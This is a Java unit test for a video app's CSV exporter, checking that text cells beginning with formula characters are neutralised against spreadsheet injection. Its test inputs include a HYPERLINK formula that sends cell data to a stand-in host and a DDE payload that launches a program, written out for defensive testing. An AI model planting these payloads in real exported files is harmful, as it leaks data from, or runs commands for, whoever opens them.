package io.clipdeck.data;

import static org.assertj.core.api.Assertions.assertThat;

import io.clipdeck.data.model.Video;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV injection: no text cell reaches a spreadsheet as a formula. */
class VideoCsvTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1"
      })
  void aFormulaInAnyTextCellIsNeutralised(String hostile) throws Exception {
    Video video = Video.of(hostile, 7, hostile, hostile);
    Video failed =
        new Video(
            42L,
            video.videoId(),
            7,
            video.url(),
            video.title(),
            null,
            -1.5,
            video.status(),
            null,
            null,
            null,
            hostile,
            null,
            null);

    String[] cells = firstRowCells(failed);

    for (int column : new int[] {1, 3, 4, 8}) {
      String cell = cells[column].startsWith("\"") ? cells[column].substring(1) : cells[column];
      assertThat(cell).as(VideoCsv.HEADER.get(column)).startsWith("'");
    }
    assertThat(cells[6]).as("numbers are written as numbers").isEqualTo("-1.5");
  }

  @Test
  void ordinaryTextIsLeftAlone() {
    assertThat(VideoCsv.text("Cats at play - part 2")).isEqualTo("Cats at play - part 2");
    assertThat(VideoCsv.text("https://youtu.be/x")).isEqualTo("https://youtu.be/x");
    assertThat(VideoCsv.text(null)).isEmpty();
    assertThat(VideoCsv.text("=1")).isEqualTo("'=1");
  }

  /** The cells of the first data row; good enough for fields with no comma inside quotes. */
  private static String[] firstRowCells(Video video) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (VideoCsv csv = new VideoCsv(bytes)) {
      csv.row(video);
    }
    String text = bytes.toString(StandardCharsets.UTF_8);
    String row = text.substring(text.indexOf("\r\n") + 2);
    // Split on commas outside quotes.
    return row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1);
  }
}
